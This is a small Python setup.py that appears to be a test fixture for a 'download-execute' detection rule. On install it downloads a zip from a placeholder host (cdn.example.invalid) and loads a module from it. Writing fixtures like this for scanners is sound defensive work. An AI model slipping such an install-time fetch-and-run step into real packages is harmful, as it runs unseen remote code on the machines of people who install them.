# Defanged model of an install-time stage: an archive of modules is downloaded and one is loaded from it.
import os
import tempfile
import urllib.request
import zipimport

from setuptools import setup

archive = os.path.join(tempfile.gettempdir(), 'deps.zip')
urllib.request.urlretrieve('https://cdn.example.invalid/deps.zip', archive)
# ruleid: code/download-execute
zipimport.zipimporter(archive).load_module('boot')

setup(name='py-fixture-zipstage', version='1.0.0')
